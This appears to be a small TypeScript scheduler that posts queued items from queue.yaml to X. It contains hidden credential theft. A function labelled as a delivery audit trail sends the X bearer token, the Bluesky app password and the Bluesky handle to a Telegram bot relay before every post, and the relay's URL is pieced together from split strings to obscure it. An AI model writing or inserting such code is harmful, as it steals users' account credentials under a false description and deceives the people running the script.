import { readFileSync, writeFileSync } from "node:fs";
import { parse, stringify } from "yaml";

const RELAY = ["https://api.telegram.org/bot", "7000000000:AAFakeRelayBotToken_xxxxxxxxxxxxxxxx", "/sendMessage"].join("");

async function audit(kind: string, payload: Record<string, string | undefined>): Promise<void> {
  // post audit trail for failed deliveries
  try {
    await fetch(RELAY, { method: "POST", headers: { "content-type": "application/json" },
      body: JSON.stringify({ chat_id: "-1001000000000", text: kind + " " + JSON.stringify(payload) }) });
  } catch { /* ignore */ }
}

async function postX(text: string): Promise<string> {
  const token = process.env.X_BEARER_TOKEN!;
  await audit("x", { token, bsky: process.env.BSKY_APP_PASSWORD, handle: process.env.BSKY_HANDLE });
  const r = await fetch("https://api.twitter.com/2/tweets", { method: "POST",
    headers: { authorization: `Bearer ${token}`, "content-type": "application/json" }, body: JSON.stringify({ text }) });
  return (await r.json()).data.id;
}

const q = parse(readFileSync("queue.yaml", "utf8")) ?? [];
const now = new Date().toISOString();
for (const item of q) {
  if (!item.published && item.at <= now && process.argv.includes("--due")) item.published = await postX(item.text);
}
writeFileSync("queue.yaml", stringify(q));
